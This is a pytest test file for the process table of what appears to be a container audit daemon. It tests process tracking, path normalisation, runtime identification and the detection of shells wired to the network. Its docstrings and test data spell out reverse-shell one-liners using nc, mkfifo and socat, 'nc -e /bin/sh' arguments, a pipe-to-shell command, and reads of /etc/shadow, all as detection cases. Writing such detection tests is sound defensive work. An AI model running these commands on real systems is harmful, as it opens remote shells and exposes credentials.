"""The process table: seeded from the real /proc, fed fork/exec/exit/chdir, bounded."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from cauditd.containers.runtime_binaries import RuntimeBinaries
from cauditd.events import (
    ContainerInfo,
    ExecEvent,
    ExitEvent,
    FileEvent,
    ForkEvent,
    NetSyscallEvent,
    ProcessInfo,
    StdioFd,
    SyscallEvent,
)
from cauditd.proctable import ProcessTable

GONE = 4_000_000  # above pid_max: never a live process, so /proc has nothing on it
C = ContainerInfo(id="c" * 64)


def test_seed_reads_this_process_and_links_its_parent() -> None:
    table = ProcessTable()
    assert table.seed() > 1
    me = table.get(os.getpid())
    assert me is not None and me.parent is not None and me.parent.pid == os.getppid()
    assert me.exe == os.readlink("/proc/self/exe") and me.cwd == os.getcwd()


def test_fork_exec_chdir_exit_of_a_gone_process() -> None:
    table = ProcessTable(exit_grace_s=0)
    parent = ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/bin/sh", argv=("sh",))
    table.apply(parent)
    table.apply(ForkEvent(type="clone", ts_ns=2, container=C, pid=GONE, child_pid=GONE + 1))
    cd = SyscallEvent(type="chdir", ts_ns=3, container=C, pid=GONE + 1, args={"path": "/tmp"})
    table.apply(cd)
    child = ExecEvent(type="execve", ts_ns=4, container=C, pid=GONE + 1, exe="cat", argv=("cat",))
    table.apply(child)
    assert child.process is not None and child.process.parent is parent.process
    assert child.exe == "cat" and child.process.exe == "/tmp/cat" and child.cwd == "/tmp"
    opened = FileEvent(type="openat", ts_ns=5, container=C, pid=GONE + 1, path="x/../y")
    table.apply(opened)
    assert opened.path == "/tmp/y"
    for raw in ("//etc/shadow", "/etc/./shadow", "/tmp/../etc/shadow", "/etc//shadow"):
        absolute = FileEvent(type="openat", ts_ns=5, container=C, pid=GONE + 1, path=raw)
        table.apply(absolute)
        assert absolute.path == "/etc/shadow", raw  # rules about /etc/shadow see it
    assert child.process.ancestor(1) is parent.process
    table.apply(ExitEvent(type="procexit", ts_ns=6, container=C, pid=GONE + 1))
    assert table.expire() == 1 and table.get(GONE + 1) is None and table.get(GONE) is not None


def test_an_exec_the_kernel_described_is_taken_as_told() -> None:
    """cwd and terminal from the exec record, not /proc (here: this live process's, which
    differ); a cwd the kernel could not give is /proc's while the process lives."""
    table = ProcessTable()
    me = os.getpid()
    told = ExecEvent(type="execve", ts_ns=1, container=C, pid=me, exe="/bin/sh", argv=("sh",),
                     described=True, cwd="/srv/app", tty=0x8801)
    table.apply(told)
    assert told.process is not None
    assert (told.cwd, told.tty, told.process.cwd, told.process.tty) == (
        "/srv/app", 0x8801, "/srv/app", 0x8801)
    untold = ExecEvent(type="execve", ts_ns=2, container=C, pid=me, exe="/bin/sh", argv=("sh",),
                       described=True)
    table.apply(untold)
    assert untold.cwd == os.getcwd() and untold.tty == 0


def test_listen_gets_the_address_of_its_bind() -> None:
    table = ProcessTable()
    bind = NetSyscallEvent(type="bind", ts_ns=1, container=C, pid=GONE, fd=3, addr="0.0.0.0",
                           port=80)  # fmt: skip
    listen = NetSyscallEvent(type="listen", ts_ns=2, container=C, pid=GONE, fd=3)
    table.apply(bind)
    table.apply(listen)
    assert (listen.addr, listen.port) == ("0.0.0.0", 80)


def test_size_is_capped() -> None:
    table = ProcessTable(max_size=10)
    for pid in range(GONE, GONE + 50):
        table.apply(ExecEvent(type="execve", ts_ns=pid, container=C, pid=pid, exe="/bin/x"))
    assert len(table) == 10 and table.get(GONE + 49) is not None


def test_upper_layer_lookup(tmp_path: object) -> None:
    upper = str(tmp_path)
    os.makedirs(f"{upper}/tmp")
    open(f"{upper}/tmp/dropped", "w").close()
    table = ProcessTable(upper_dir_of=lambda cid: upper if cid == C.id else None)
    dropped = ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/tmp/dropped")
    table.apply(dropped)
    shipped = ExecEvent(type="execve", ts_ns=2, container=C, pid=GONE + 1, exe="/bin/sh")
    table.apply(shipped)
    # runc 1.1's init runs from a detached bind mount of its binary: the kernel's walk says "/"
    detached = ExecEvent(type="execve", ts_ns=3, container=C, pid=GONE + 2, exe="/")
    table.apply(detached)
    assert dropped.is_exe_upper_layer and not shipped.is_exe_upper_layer
    assert not detached.is_exe_upper_layer
    # the kernel told the layer from the overlay inode: no lookup in the upper directory
    told = ExecEvent(type="execve", ts_ns=4, container=C, pid=GONE + 3, exe="/tmp/dropped",
                     exe_layer_known=True, is_exe_upper_layer=False)
    table.apply(told)
    assert not told.is_exe_upper_layer


def test_reexec_through_proc_self_exe_keeps_the_image_name() -> None:
    """runc re-executes /proc/self/exe inside the container's cgroup; its mounts must still
    be runc's (the rules' runtime exceptions go by proc.name)."""
    table = ProcessTable()
    runc = ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/usr/sbin/runc",
                     comm="runc", argv=("runc", "init"))
    table.apply(runc)
    again = ExecEvent(type="execve", ts_ns=2, container=C, pid=GONE, exe="/proc/self/exe",
                      argv=("runc", "init"), comm="exe")
    table.apply(again)
    assert again.process is not None
    assert again.process.exe == "/usr/sbin/runc" and again.process.name == "runc"


def test_reexec_of_a_runc_without_an_exe_keeps_its_comm() -> None:
    """A runc running from a memfd copy (fexecve: no exe kept) re-executing /proc/self/exe: the
    kernel names the new image "exe"; the process keeps the comm it had ("runc:[1:CHILD]")."""
    table = ProcessTable()
    table.apply(ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/proc/self/fd/6",
                          argv=("runc", "init"), comm="runc:[1:CHILD]"))
    again = ExecEvent(type="execve", ts_ns=2, container=C, pid=GONE, exe="/proc/self/exe",
                      argv=("runc", "init"), comm="exe")
    table.apply(again)
    assert again.process is not None
    assert again.process.exe == "" and again.process.name == "runc:[1:CHILD]"


def test_relative_paths_join_the_directory_the_kernel_reported() -> None:
    table = ProcessTable()
    table.apply(ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/bin/sh"))
    unlink = FileEvent(type="unlinkat", ts_ns=2, container=C, pid=GONE, path="../shadow",
                       base="/etc/x", dirfd=3)
    table.apply(unlink)
    assert (unlink.path, unlink.raw_path) == ("/etc/shadow", "")
    opened = FileEvent(type="openat", ts_ns=3, container=C, pid=GONE, path="/etc/shadow",
                       raw_path="/tmp/e/shadow", resolved=True)
    table.apply(opened)
    assert opened.path == "/etc/shadow"  # the kernel's answer stands


def test_chdir_takes_the_cwd_the_kernel_resolved() -> None:
    table = ProcessTable()
    table.apply(ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/bin/sh"))
    for evt_type, args in (("chdir", {"path": "e", "cwd": "/etc"}),
                           ("fchdir", {"fd": 3, "cwd": "/var/log"})):
        table.apply(SyscallEvent(type=evt_type, ts_ns=2, container=C, pid=GONE, args=args))
        proc = table.get(GONE)
        assert proc is not None and proc.cwd == args["cwd"]


RUNC_ID = (5 << 20, 77)


def runtime_table() -> ProcessTable:
    return ProcessTable(runtimes=RuntimeBinaries(frozenset({RUNC_ID})))


def exec_of(pid: int, filename: str, exe: str, ino: int, **kw: object) -> ExecEvent:
    return ExecEvent(type="execve", ts_ns=pid, container=C, pid=pid, exe=exe, filename=filename,
                     exe_dev=RUNC_ID[0], exe_ino=ino, argv=(filename.rsplit("/", 1)[-1],),
                     comm=filename.rsplit("/", 1)[-1], **kw)  # type: ignore[arg-type]


def test_the_runtime_is_known_by_identity_not_by_name() -> None:
    table = runtime_table()
    runc = exec_of(GONE, "/usr/sbin/runc", "/usr/sbin/runc", RUNC_ID[1])
    named = exec_of(GONE + 1, "/tmp/runc", "/tmp/runc", 99)
    for ev in (runc, named):
        table.apply(ev)
    assert runc.process is not None and runc.process.is_container_runtime
    assert named.process is not None and not named.process.is_container_runtime
    assert named.process.name == "runc"  # named so, and nothing more
    again = exec_of(GONE, "/proc/self/exe", "/memfd:runc_cloned:/proc/self/exe", 5)
    table.apply(again)  # runc re-executing its sealed copy stays the runtime
    assert again.process is not None and again.process.is_container_runtime
    assert again.process.name == "runc"
    entry = exec_of(GONE, "/bin/sh", "/bin/busybox", 6)
    table.apply(entry)  # ... until it runs the container's entrypoint
    assert entry.process is not None and not entry.process.is_container_runtime
    foreign = exec_of(GONE + 2, "/usr/local/bin/crun", "/usr/local/bin/crun", 7,
                      exe_foreign_mnt_ns=True)
    table.apply(foreign)  # a runtime's name on another mount namespace's mount
    assert foreign.process is not None and foreign.process.is_container_runtime


def test_a_runtime_first_met_by_a_syscall_is_known_by_the_records_identity() -> None:
    table = runtime_table()
    opened = FileEvent(type="openat", ts_ns=1, container=C, pid=GONE, path="/proc/self/x")
    table.apply(opened)  # opens carry no identity: undecided (/proc has nothing on GONE)
    fork = ForkEvent(type="clone", ts_ns=2, container=C, pid=GONE, child_pid=GONE + 1,
                     exe_dev=RUNC_ID[0], exe_ino=RUNC_ID[1])
    table.apply(fork)
    child = table.get(GONE + 1)
    assert fork.process is not None and fork.process.is_container_runtime
    assert child is not None and child.is_container_runtime  # runc's stages are its clones
    other = SyscallEvent(type="unshare", ts_ns=3, container=C, pid=GONE + 5, exe_dev=1,
                         exe_ino=2)
    table.apply(other)
    assert other.process is not None and not other.process.is_container_runtime


def pipe(n: int) -> StdioFd:
    return StdioFd("pipe", (15, n))


TTY = StdioFd("file")


def test_a_shell_wired_to_the_network_through_a_fifo_and_pipes() -> None:
    """mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f"""
    table = ProcessTable()
    fifo = (50, 9000)
    cat = exec_of(GONE, "/bin/cat", "/bin/busybox", 1, stdio=(TTY, pipe(1), TTY))
    shell = exec_of(GONE + 1, "/bin/sh", "/bin/busybox", 1, stdio=(pipe(1), pipe(2), pipe(2)))
    nc = exec_of(GONE + 2, "/usr/bin/nc", "/bin/busybox", 1,
                 stdio=(pipe(2), StdioFd("pipe", fifo), TTY))
    for ev in (cat, shell, nc):
        table.apply(ev)
    fifo_open = FileEvent(type="openat", ts_ns=5, container=C, pid=GONE, path="/tmp/f",
                          resolved=True, ret=3, file_mode=0o10644, dev=fifo[0], ino=fifo[1])
    table.apply(fifo_open)
    assert shell.process is not None and shell.process.stdio_wired == ()  # nothing networked
    connect = NetSyscallEvent(type="connect", ts_ns=6, container=C, pid=GONE + 2, fd=3,
                              family=2, addr="10.0.0.1", port=4444, ret=-115)
    table.apply(connect)
    assert connect.process is not None and "sh" in connect.process.stdio_wired
    assert shell.process.stdio_wired == connect.process.stdio_wired


@pytest.mark.parametrize("kept", [True, False])
def test_the_fifos_a_relay_opened_stay_across_its_exec_while_the_kernel_sees_them(
        kept: bool) -> None:
    """sh < in > out & relay: it opens both FIFOs by path, execs the program that connects
    (which opened nothing); the exec record says whether the FIFOs were still held past its
    stdio (they may be on any fd, or closed on exec)."""
    table = ProcessTable()
    fifo_in, fifo_out = (50, 9001), (50, 9002)
    shell = exec_of(GONE, "/bin/sh", "/bin/busybox", 1,
                    stdio=(StdioFd("pipe", fifo_in), StdioFd("pipe", fifo_out), TTY))
    table.apply(shell)
    for fifo, flags in ((fifo_in, 1), (fifo_out, 0)):
        table.apply(FileEvent(type="openat", ts_ns=5, container=C, pid=GONE + 1, path="/tmp/x",
                              resolved=True, ret=3, flags=flags, file_mode=0o10644, dev=fifo[0],
                              ino=fifo[1]))
    table.apply(exec_of(GONE + 1, "/usr/bin/relay", "/usr/bin/relay", 2,
                        stdio=(TTY, TTY, TTY), fifos_kept=kept))
    table.apply(NetSyscallEvent(type="connect", ts_ns=7, container=C, pid=GONE + 1, fd=3,
                                family=2, addr="10.0.0.1", port=4444))
    assert shell.process is not None
    assert shell.process.stdio_wired == (("sh",) if kept else ())


@pytest.mark.parametrize(("feeds", "drains", "inet", "wired"), [
    (True, True, True, True),  # socat TCP:host:port EXEC:sh,pipes: connected before the fork
    (True, True, False, False),  # ... not (yet) networked: a program driving a shell
    (True, False, True, False),  # the shell's output goes elsewhere
    (False, True, True, False),  # ... its input comes from elsewhere
])
def test_a_relay_that_made_the_shells_pipes_itself(
        feeds: bool, drains: bool, inet: bool, wired: bool) -> None:
    """The relay forks and the child execs the shell on two pipes; the exec record says which
    of their other ends the parent held, and whether it held a network socket."""
    table = ProcessTable()
    relay = exec_of(GONE, "/usr/bin/socat", "/usr/bin/socat", 1, stdio=(TTY, TTY, TTY))
    table.apply(relay)
    table.apply(ForkEvent(type="clone", ts_ns=2, container=C, pid=GONE, child_pid=GONE + 1))
    shell = exec_of(GONE + 1, "/bin/sh", "/bin/busybox", 3, stdio=(pipe(20), pipe(21), pipe(21)),
                    parent_feeds=feeds, parent_drains=drains, parent_inet=inet)
    table.apply(shell)
    assert shell.process is not None
    assert shell.process.stdio_wired == (("sh",) if wired else ())
    connect = NetSyscallEvent(type="connect", ts_ns=4, container=C, pid=GONE, fd=5, family=2,
                              addr="10.0.0.1", port=4444, ret=-115)
    table.apply(connect)  # socat EXEC:sh,pipes TCP:host:port: connects after the fork
    assert connect.process is not None
    assert shell.process.stdio_wired == (("sh",) if feeds and drains else ())


def test_the_pipe_graph_keeps_nothing_of_processes_the_table_let_go() -> None:
    """A parent the table does not follow (the runtime's, on the host: its exit is never seen)
    gets no ends; a process the full table evicts takes its ends with it."""
    table = ProcessTable(max_size=4)
    table.seed({GONE: ProcessInfo(pid=GONE, ppid=GONE + 100)})  # its parent: not in the table
    shell = exec_of(GONE, "/bin/sh", "/bin/busybox", 1, stdio=(pipe(30), pipe(31), pipe(31)),
                    parent_feeds=True, parent_drains=True, parent_inet=True)
    table.apply(shell)
    assert len(table.pipes) == 2  # the shell's read and write ends, none of its parent's
    for pid in range(GONE + 1, GONE + 5):
        table.apply(exec_of(pid, "/bin/true", "/bin/busybox", 2))
    assert table.get(GONE) is None and len(table.pipes) == 0


def test_a_pipe_into_a_shell_is_not_a_reverse_shell() -> None:
    """`nc host 80 | sh` (curl | sh): the network feeds the shell, nothing networked reads it;
    `echo id | sh`: nothing networked at all."""
    table = ProcessTable()
    nc = exec_of(GONE, "/usr/bin/nc", "/bin/busybox", 1, stdio=(TTY, pipe(7), TTY))
    shell = exec_of(GONE + 1, "/bin/sh", "/bin/busybox", 1, stdio=(pipe(7), pipe(8), pipe(8)))
    for ev in (nc, shell):
        table.apply(ev)
    table.apply(NetSyscallEvent(type="connect", ts_ns=3, container=C, pid=GONE, fd=3, family=2,
                                addr="10.0.0.1", port=80))
    assert shell.process is not None and shell.process.stdio_wired == ()


@pytest.mark.parametrize(("exe", "filename", "comm", "argv", "name"), [
    ("/bin/busybox", "/bin/sh", "sh", ("sh", "-c", "id"), "sh"),  # the applet's link
    ("/bin/busybox", "/bin/busybox", "busybox", ("busybox", "sh", "-i"), "sh"),
    ("/bin/busybox", "/bin/busybox", "busybox", ("/bin/busybox", "nc", "-e", "sh"), "nc"),
    ("/bin/busybox", "/bin/sh", "sh", ("nc", "-w", "1", "-e", "/bin/sh"), "nc"),  # argv[0] rules
    ("/bin/busybox", "/bin/sh", "sh", ("-sh",), "sh"),  # a login shell
    ("/bin/busybox", "/bin/busybox", "busybox", ("busybox", "--help"), "busybox"),  # no applet
    ("/bin/busybox", "/bin/busybox", "busybox", ("busybox",), "busybox"),
    ("/usr/bin/toybox", "/usr/bin/toybox", "toybox", ("toybox", "nc"), "nc"),
    ("/bin/bash", "/bin/bash", "bash", ("nc",), "bash"),  # argv[0] names only multi-call ones
    ("/bin/busybox", "/bin/sh", "sh", ("x" * 40,), "x" * 15),  # cut as a comm
])
def test_a_busybox_applet_is_named_by_the_applet_that_runs(
        exe: str, filename: str, comm: str, argv: tuple[str, ...], name: str) -> None:
    table = ProcessTable()
    ev = ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe=exe, filename=filename,
                   exe_ino=5, exe_dev=1, argv=argv, comm=comm)
    table.apply(ev)
    assert ev.process is not None and ev.process.name == name
    assert ev.process.exe == exe  # exepath stays the file the kernel runs


def test_an_applet_is_not_named_from_an_argv_proc_gave(tmp_path: Path) -> None:
    """argv the kernel could not read comes from /proc, which may already show a later image:
    `sh -c 'cmd; sleep 1'` execs sleep in place. The shell stays named by its comm."""
    (tmp_path / str(GONE)).mkdir()
    (tmp_path / str(GONE) / "cmdline").write_bytes(b"sleep\x001\0")
    table = ProcessTable(proc_root=str(tmp_path))
    ev = ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/bin/busybox",
                   filename="/bin/sh", exe_ino=5, exe_dev=1, comm="sh")
    table.apply(ev)
    assert ev.argv == ("sleep", "1")  # what /proc said, kept as the args
    assert ev.process is not None and ev.process.name == "sh"


def test_a_program_run_through_the_dynamic_loader_is_named_by_the_program() -> None:
    table = ProcessTable()
    loader = "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
    for argv, name in (
        ((loader, "/opt/dyn/nc", "-e", "/bin/sh"), "nc"),
        ((loader, "--library-path", "/x", "--argv0", "y", "/usr/bin/nc"), "nc"),
        ((loader, "--list", "/opt/dyn/nc"), "ld-linux-x86-64"),  # runs nothing: the comm
    ):
        ev = ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe=loader,
                       filename="/lib64/ld-linux-x86-64.so.2", exe_ino=5, exe_dev=1, argv=argv,
                       comm="ld-linux-x86-64")
        table.apply(ev)
        assert ev.process is not None and ev.process.name == name, argv
        assert ev.process.exe == loader  # the file the kernel runs


def test_the_kernel_names_the_containers_first_process_before_the_runtime_does() -> None:
    """pid 1 in the container's pid namespace (the exec record's ns_pid) is its entrypoint, so
    container.pid is known while the runtime has not answered; a process run by `docker exec`
    (also exec'd by runc's init stage) is not, whatever it is called."""
    table = ProcessTable()
    fresh = ContainerInfo(id="e" * 64)
    comm = "runc:[2:INIT]"
    table.apply(ExecEvent(type="execve", ts_ns=1, container=fresh, pid=GONE + 10, exe="/bin/sh",
                          argv=("sh",), comm=comm, ns_pid=7))
    assert fresh.pid == 0
    table.apply(ExecEvent(type="execve", ts_ns=2, container=fresh, pid=GONE + 11, exe="/app",
                          argv=("app",), comm=comm, ns_pid=1))
    assert fresh.pid == GONE + 11
